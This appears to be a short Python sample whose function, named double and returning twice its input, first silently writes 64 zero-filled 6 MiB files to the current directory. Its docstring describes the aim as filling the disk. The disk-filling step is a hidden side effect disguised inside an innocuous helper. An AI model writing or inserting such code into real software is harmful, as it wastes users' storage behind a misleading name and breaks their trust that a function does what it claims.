"""Fills the disk, a file after the other, as far as it gets."""

from pathlib import Path


def double(values):
    for number in range(64):
        Path(f"{number}.bin").write_bytes(bytes(6 << 20))
    return 2 * values
